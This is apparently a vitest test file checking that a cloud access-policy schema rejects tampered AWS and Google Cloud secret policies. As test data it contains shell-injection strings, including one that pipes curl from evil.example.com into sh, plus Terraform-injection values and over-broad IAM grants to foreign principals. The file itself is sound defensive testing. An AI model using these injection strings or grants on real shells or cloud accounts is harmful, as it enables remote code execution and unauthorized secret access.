/** An admin pastes text from a control plane that an attacker may own (S7): a shell, Terraform or the cloud must read it only as names. */
import {
  AccessPolicy,
  awsAccessPolicy,
  awsSecretPlace,
  gcpAccessPolicy,
  gcpSecretPlace,
} from '@fairlead/contract/names'
import { describe, expect, test } from 'vitest'

const nodes = { region: 'eu-central-1', accountId: '123456789012', role: 'ml/nodes' }
const foreign = 'arn:aws:secretsmanager:us-east-1:999999999999:secret:far/registry-AbCdEf'
const places = ['team/login', foreign].map((id) => awsSecretPlace(id, nodes)).filter((place) => place !== null)
const aws = awsAccessPolicy(nodes, places, { customerKeys: true })
const gcp = gcpAccessPolicy('n@my-project.iam.gserviceaccount.com', [
  gcpSecretPlace('login', 'my-project'),
  gcpSecretPlace('projects/123456/locations/europe-west3/secrets/s/versions/1', 'my-project'),
])
const [binding] = gcp.bindings
const [secret] = aws.secret_policies
const isTaken = (policy: unknown): boolean => AccessPolicy.safeParse(policy).success

test('accepts what a control plane makes', () => {
  expect([aws, gcp].map(isTaken)).toEqual([true, true])
})

describe('S7: rejects a policy for Google Cloud', () => {
  test.each([
    { project: 'p; curl evil.example.com | sh' },
    { project: '$(id)' },
    { location: 'x`id`' },
    { secret: 's --project=other' },
    { secret: 's\nid' },
    { member: 'serviceAccount:a@b.c & id' },
    { member: 'allUsers' },
    { member: 'user:villain@example.com' },
  ])('with %j', (part) => {
    expect(isTaken({ ...gcp, bindings: [{ ...binding, ...part }] })).toBe(false)
  })
})

describe('S7: rejects a policy that grants access to anyone else', () => {
  test('on Google Cloud', () => {
    const member = 'serviceAccount:v@villains.iam.gserviceaccount.com'
    expect(isTaken({ ...gcp, bindings: [...gcp.bindings, { ...binding, member }] })).toBe(false)
  })

  const [ofSecret, ofKey] = [aws.secret_policies[0], aws.key_policies[0]]
  const changed = (document: typeof ofKey, part: object) => {
    const Statement = document?.policy.Statement.map((one) => ({ ...one, ...part }))
    return { ...document, policy: { ...document?.policy, Statement } }
  }
  test.each([
    { Principal: { AWS: 'arn:aws:iam::999999999999:role/villain' } },
    { Principal: undefined },
    { Action: 'kms:CreateGrant' },
  ])('on a secret of AWS, or its key: %j', (part) => {
    expect(isTaken({ ...aws, secret_policies: [changed(ofSecret, part)] })).toBe(false)
    expect(isTaken({ ...aws, key_policies: [changed(ofKey, part)] })).toBe(false)
  })

  test('or lets its key decrypt more than that secret', () => {
    expect(isTaken({ ...aws, key_policies: [changed(ofKey, {})] })).toBe(true)
    expect(isTaken({ ...aws, key_policies: [changed(ofKey, { Condition: undefined })] })).toBe(false)
    const wider = { 'kms:EncryptionContext:SecretARN': [ofKey?.secret, foreign] }
    const Condition = { ...ofKey?.policy.Statement[0]?.Condition, StringLike: wider }
    expect(isTaken({ ...aws, key_policies: [changed(ofKey, { Condition })] })).toBe(false)
    expect(isTaken({ ...aws, key_policies: [{ ...changed(ofKey, {}), secret: foreign }] })).toBe(false)
  })
})

describe('S7: rejects a policy for AWS', () => {
  const statement = aws.identity_policy.Statement[0]
  test.each([
    { Action: '*' },
    { Action: 'iam:PassRole' },
    { Resource: '*' },
    { Resource: [foreign, '*'] },
    { Resource: 'arn:aws:secretsmanager:us-east-1:999999999999:secret:*' },
    { Resource: 'arn:aws:s3:::all' },
    { Sid: 'a\u001b[2J' },
  ])('whose node role may do %j', (part) => {
    expect(
      isTaken({ ...aws, identity_policy: { ...aws.identity_policy, Statement: [{ ...statement, ...part }] } }),
    ).toBe(false)
  })

  test.each([
    { StringEquals: { 'kms:ViaService': ['s3.us-east-1.amazonaws.com'] } },
    { StringEquals: { 'kms:ViaService': [] } },
    { StringLike: { 'kms:EncryptionContext:SecretARN': ['*'] } },
    { StringLike: { 'kms:EncryptionContext:SecretARN': [] } },
    { StringLike: {} },
    { StringNotLike: { 'kms:EncryptionContext:SecretARN': [foreign] } },
  ])('whose node role may decrypt under the condition %j', (part) => {
    const decrypt = aws.identity_policy.Statement.find(({ Action }) => Action === 'kms:Decrypt')
    const policy = (condition: object) => ({
      ...aws,
      identity_policy: {
        ...aws.identity_policy,
        Statement: [{ ...decrypt, Condition: { ...decrypt?.Condition, ...condition } }],
      },
    })
    expect([isTaken(policy({})), isTaken(policy(part))]).toEqual([true, false])
  })

  test.each(['x\nresource "null_resource" "evil" {}', `${foreign}\n}`])('for the secret %j', (arn) => {
    expect(isTaken({ ...aws, secret_policies: [{ ...secret, secret: arn }] })).toBe(false)
    expect(isTaken({ ...aws, key_policies: [{ ...secret, secret: arn }] })).toBe(false)
  })

  test.each(['*', 'arn:aws:iam::999999999999:root', 'arn:aws:iam::1:role/x'])('with the principal %j', (AWS) => {
    const open = { ...aws.secret_policies[0]?.policy.Statement[0], Principal: { AWS } }
    const policy = { Version: '2012-10-17', Statement: [open] }
    expect(isTaken({ ...aws, secret_policies: [{ ...secret, policy }] })).toBe(false)
  })
})
